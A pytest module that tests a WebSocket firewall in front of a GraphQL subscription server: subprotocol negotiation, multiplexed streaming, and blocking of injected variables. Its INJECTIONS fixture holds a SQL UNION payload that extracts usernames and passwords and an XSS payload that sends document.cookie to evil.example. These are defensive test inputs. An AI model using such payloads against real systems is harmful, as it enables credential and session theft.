"""GraphQL subscriptions over graphql-ws (``graphql-transport-ws``) through a real `twistd wsfw`.

Server: strawberry-graphql on uvicorn (tests/peers/gql_server.py), speaking only
graphql-transport-ws. Client: gql's WebsocketsTransport (on the `websockets`
library) asking for that subprotocol. Passes whether wsfw decodes these messages
as generic JSON or with a graphql-ws decoder: it only looks at what the peers see
and at the audit trail's detector class.
"""

from __future__ import annotations

import asyncio
import json
import sys

import pytest
import requests
from gql import Client, GraphQLRequest, gql
from gql.transport.exceptions import TransportError
from gql.transport.websockets import WebsocketsTransport

from tests import support

GRAPHQL_TRANSPORT_WS = "graphql-transport-ws"  # the graphql-ws library's protocol
COUNT = "subscription Count($upTo: Int!) { count(upTo: $upTo) }"
SEARCH = "subscription Search($term: String!) { search(term: $term) }"
INJECTIONS = {
    "sqli": "books' UNION SELECT username, password FROM users--",
    "xss": "<script>fetch('//evil.example/'+document.cookie)</script>",
}


@pytest.fixture(scope="module")
def stack(tmp_path_factory):
    """strawberry on uvicorn and a `twistd wsfw` in front of it."""
    folder = tmp_path_factory.mktemp("graphqlws")
    argv = [sys.executable, "-m", "tests.peers.gql_server", "0"]
    with support.app_behind_wsfw(folder, argv) as (app, app_port, daemon, port, audit):
        yield Stack(port, app_port, audit, daemon)


class Stack:
    def __init__(self, port, app_port, audit, daemon):
        self.url = f"ws://127.0.0.1:{port}/graphql"
        self.app_url = f"http://127.0.0.1:{app_port}/graphql"
        self.audit, self.daemon = audit, daemon

    def seen(self) -> list[str]:
        """Every operation the server executed, asked directly (not through wsfw)."""
        reply = requests.post(self.app_url, json={"query": "{ seen }"}, timeout=5)
        reply.raise_for_status()
        return reply.json()["data"]["seen"]


def transport(stack: Stack, subprotocols=(GRAPHQL_TRANSPORT_WS,)) -> WebsocketsTransport:
    return WebsocketsTransport(url=stack.url, subprotocols=list(subprotocols), connect_timeout=5, ack_timeout=5,
                               close_timeout=2)


def request(document: str, **variables) -> GraphQLRequest:
    return GraphQLRequest(document, variable_values=variables)


def run(coro, timeout: float = 20):
    return asyncio.run(asyncio.wait_for(coro, timeout))


@pytest.mark.parametrize("offer", [[GRAPHQL_TRANSPORT_WS], ["graphql-ws", GRAPHQL_TRANSPORT_WS]],
                         ids=["only-transport-ws", "apollo-first"])
def test_subprotocol_negotiated_end_to_end(stack, offer):
    """The client's offer reaches the server whole; the server's choice reaches the client."""
    async def main():
        t = transport(stack, offer)
        async with Client(transport=t) as session:
            result = await session.execute(gql("subscription { count(upTo: 1) }"))
            return t.response_headers.get("Sec-WebSocket-Protocol"), t.subprotocol, result
    selected_header, selected, result = run(main())
    # the header itself, not gql's fallback guess when a server answers without one
    assert selected_header == GRAPHQL_TRANSPORT_WS
    assert selected == GRAPHQL_TRANSPORT_WS
    assert result == {"count": 1}
    assert f"subprotocol={GRAPHQL_TRANSPORT_WS}" in stack.daemon.output  # wsfw's own open event


def test_subscriptions_stream_through_wsfw(stack):
    """Two subscriptions multiplexed on one connection stream every item, in order, then complete."""
    async def collect(session, req):
        return [item async for item in session.subscribe(req)]

    async def main():
        async with Client(transport=transport(stack)) as session:
            return await asyncio.gather(collect(session, request(COUNT, upTo=25)),
                                        collect(session, request(SEARCH, term="graphql books")))
    counts, results = run(main())
    assert counts == [{"count": i} for i in range(1, 26)]
    assert results == [{"search": f"result {i} for graphql books"} for i in range(3)]
    seen = stack.seen()
    assert 'subscription {"upTo": 25}' in seen and 'subscription {"term": "graphql books"}' in seen


@pytest.mark.parametrize("kind", sorted(INJECTIONS))
def test_injection_in_variables_blocked(stack, kind):
    """An injection in ``variables`` closes the sender with 1008 and never reaches the server;
    another client's subscription streams on, untouched."""
    payload = INJECTIONS[kind]

    async def bystander(started: asyncio.Event):
        async with Client(transport=transport(stack)) as session:
            items = []
            async for item in session.subscribe(request(COUNT, upTo=60)):
                items.append(item["count"])
                started.set()
            return items

    async def attacker():
        t = transport(stack)
        async with Client(transport=t) as session:
            websocket = t.adapter.websocket
            before = [item async for item in session.subscribe(request(SEARCH, term="benign"))]
            with pytest.raises(TransportError):
                async for _ in session.subscribe(request(SEARCH, term=payload)):
                    pass
            await asyncio.wait_for(websocket.wait_closed(), 5)
            return before, websocket.close_code

    async def main():
        started = asyncio.Event()
        watching = asyncio.create_task(bystander(started))
        await asyncio.wait_for(started.wait(), 5)
        cut = await attacker()
        return cut, await watching

    stack.audit.mark()
    (before, close_code), watched = run(main())
    assert before == [{"search": f"result {i} for benign"} for i in range(3)]
    assert close_code == 1008
    assert watched == list(range(1, 61))  # the bystander's stream was never interrupted
    seen = stack.seen()
    assert f'subscription {json.dumps({"term": payload})}' not in seen, "the server executed the injection"
    assert not any(payload in op for op in seen)
    assert 'subscription {"term": "benign"}' in seen
    entries = stack.audit.wait_since_mark(lambda e: e.get("enforced") is True)
    blocked = [e for e in entries if e.get("enforced") is True]
    assert len(blocked) == 1 and kind in blocked[0]["classes"] and "term" in blocked[0]["param"], blocked
